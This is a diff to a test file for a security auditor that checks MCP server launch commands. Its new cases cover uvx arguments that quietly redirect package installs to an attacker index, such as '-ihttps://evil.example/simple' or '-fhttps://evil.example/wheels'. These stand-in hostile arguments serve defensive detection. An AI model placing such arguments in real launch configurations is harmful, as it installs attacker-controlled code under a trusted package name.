@@ -6,7 +6,10 @@
  * A launch spelled so installs the attacker's package under a trusted name; nerq must report
  * it as code fetched from there (docs/security.md, "Dependencies no registry vouches for"), not
  * evaluate the public package of that name and pass it. The same reading serves MCP Registry
- * entries' runtime arguments (registryRedirect).
+ * entries' runtime arguments (registryRedirect). uv reads its command line with clap, where a
+ * one-letter flag takes its value in the same word and follows other one-letter flags there:
+ * `-ihttps://…` is `--index-url https://…`, `-qf ./wheels` is `-q --find-links ./wheels`, and
+ * `-wother-pkg` installs other-pkg beside the tool (audited as every `--with` is).
  */
 import { describe, expect, it } from 'vitest';
 import { mapLaunch } from '../../src/audit/mcp/launch.js';
@@ -28,6 +31,16 @@ const NPM_SPELLINGS: [string, string[], string][] = [
   ['--globalc FILE (abbreviated)', ['--globalc', './evil.npmrc', '-y', NPM_PACKAGE], './evil.npmrc'],
 ];
 
+const PYPI_PACKAGE = 'mcp-server-fetch';
+
+/** [label, uvx arguments, where the package then comes from]. */
+const UV_SPELLINGS: [string, string[], string][] = [
+  ['-iURL (value in the same word)', ['-ihttps://evil.example/simple', PYPI_PACKAGE], 'https://evil.example/simple'],
+  ['-fURL (find-links in the same word)', ['-fhttps://evil.example/wheels', PYPI_PACKAGE], 'https://evil.example/wheels'],
+  ['-qiURL (after another one-letter flag)', ['-qihttps://evil.example/simple', PYPI_PACKAGE], 'https://evil.example/simple'],
+  ['-qf DIR (clustered, value apart)', ['-qf', './wheels', PYPI_PACKAGE], './wheels'],
+];
+
 describe('hostile: a launch that names another registry in a spelling its runner reads', () => {
   it.for(NPM_SPELLINGS)('npx %s: fetched from there, with the package named', ([, args, source], { task }) => {
     noteCases(task);
@@ -39,6 +52,34 @@ describe('hostile: a launch that names another registry in a spelling its runner
 
   it.for(NPM_SPELLINGS)('an MCP Registry entry whose runtime arguments hold %s is redirected', ([, args, source]) => {
     expect(registryRedirect('npm', args, [], PUBLIC)?.source).toBe(source);
+  });
+
+  it.for(UV_SPELLINGS)('uvx %s: fetched from there, with the package named', ([, args, source], { task }) => {
+    noteCases(task);
+    const launch = mapLaunch({ command: 'uvx', args });
+    expect(launch.kind).toBe('fetched');
+    if (launch.kind !== 'fetched') return;
+    expect(launch.code).toEqual([expect.objectContaining({ ecosystem: 'pypi', name: PYPI_PACKAGE, source })]);
+  });
+
+  it.for(UV_SPELLINGS)('an MCP Registry entry whose runtime arguments hold %s is redirected', ([, args, source]) => {
+    expect(registryRedirect('pypi', args, [], PUBLIC)?.source).toBe(source);
+  });
+
+  it('uvx -wPKG and -qwPKG install PKG beside the tool: both are audited', ({ task }) => {
+    for (const word of ['-wother-pkg', '-qwother-pkg', '-w=other-pkg']) {
+      noteCases(task);
+      const launch = mapLaunch({ command: 'uvx', args: [word, PYPI_PACKAGE] });
+      expect(launch.kind, word).toBe('package');
+      if (launch.kind !== 'package') continue;
+      expect([launch.name, ...launch.extra.map((p) => p.name)], word).toEqual([PYPI_PACKAGE, 'other-pkg']);
+    }
+  });
+
+  it('one-letter flags that take no value are no redirection', () => {
+    for (const args of [['-q', PYPI_PACKAGE], ['-qn', PYPI_PACKAGE], ['--python=3.12', PYPI_PACKAGE]]) {
+      expect(registryRedirect('pypi', args, [], PUBLIC), args.join(' ')).toBeNull();
+    }
   });
 
   it('words npm reads as other settings are not redirections', () => {
